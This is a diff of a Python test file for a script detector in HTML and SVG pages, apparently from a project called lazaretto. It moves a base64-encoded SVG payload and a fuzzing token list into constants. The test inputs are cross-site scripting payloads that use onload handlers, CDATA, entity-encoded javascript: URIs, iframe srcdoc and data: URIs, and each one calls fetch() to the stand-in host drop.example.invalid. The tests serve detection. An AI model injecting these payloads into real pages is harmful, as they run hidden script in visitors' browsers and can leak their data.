@@ -1,15 +1,21 @@
 """Scripts of pages and of pictures in SVG, however they are written down."""
 
+from base64 import b64encode
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from lazaretto.core.facts import Facts, Kind
-from lazaretto.core.inner import Inner
 from lazaretto.languages import _pages, text
 from tests.languages.test_inner import read
 
 HOST = "https://drop.example.invalid/x"
+PICTURE = b64encode(f"<svg onload=\"fetch('{HOST}')\"></svg>".encode()).decode()
+TOKENS = (
+    b"<svg ", b"<script>", b"<script/>", b"</script>", b"<![CDATA[", b"]]>", b" onload='", b' href="', b"'", b'"', b">",
+    b"data:text/html;base64,", b"javascript:", b"&#x6a;", b"&lt;", b" srcdoc=", b"a(1)", b"\n", b"//",
+)  # fmt: skip
 
 
 def reached(facts: Facts) -> list[tuple[str | None, int]]:
@@ -22,14 +28,13 @@ def reached(facts: Facts) -> list[tuple[str | None, int]]:
     [
         f'<svg onload="fetch(&quot;{HOST}&quot;)"/>',
         f"<svg:script><![CDATA[fetch('{HOST}')]]></svg:script>",
-        f"<script>//<![CDATA[\nfetch('{HOST}')\n//]]></script>".replace("\n", " ", 0),
+        f"<script>//<![CDATA[\nfetch('{HOST}')\n//]]></script>",
         f"<a xlink:href=\"java&#115;cript:fetch('{HOST}')\"/>",
         f"<set attributeName='href' to=\"javascript:fetch('{HOST}')\"/>",
         f"<iframe srcdoc=\"&lt;script&gt;fetch('{HOST}')&lt;/script&gt;\"/>",
         f"<p onclick=fetch('{HOST}')></p>".replace("'", "`"),
         f"<use href='data:text/javascript,fetch(%22{HOST}%22)'/>",
-        '<use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImZldGNoKCdodHRwczovL2Ryb3AuZXhhbXBsZS5pbnZhbGlkL3gnKSI+'
-        'PC9zdmc+"/>',
+        f"<use href='data:image/svg+xml;base64,{PICTURE}'/>",
     ],
 )
 def test_every_way_to_write_a_script(element: str) -> None:
@@ -64,20 +69,12 @@ def test_data_that_is_no_script(element: str) -> None:
 
 
 @settings(max_examples=300)
-@given(
-    data=st.binary(max_size=100)
-    | st.lists(
-        st.sampled_from(
-            [b"<svg ", b"<script>", b"<script/>", b"</script>", b"<![CDATA[", b"]]>", b" onload='", b' href="', b"'", b'"', b">",
-             b"data:text/html;base64,", b"javascript:", b"&#x6a;", b"&lt;", b" srcdoc=", b"a(1)", b"\n", b"//"]
-        )
-    ).map(b"".join)
-)  # fmt: skip
+@given(data=st.binary(max_size=100) | st.lists(st.sampled_from(TOKENS)).map(b"".join))
 def test_any_page(data: bytes) -> None:
     """Any page gives parts that stand inside it, the same ones each time."""
     parts = list(_pages.scripts(data))
 
     assert parts == list(_pages.scripts(data))
-    assert all(isinstance(part, Inner) and (part.places or len(part.data) <= len(data)) for part in parts)
+    assert all(part.places or len(part.data) <= len(data) for part in parts)
     assert all(0 <= place.start <= place.end <= len(data) for part in parts for place in part.places)
     assert list(text.inner("markup", data, Facts(""))) == parts
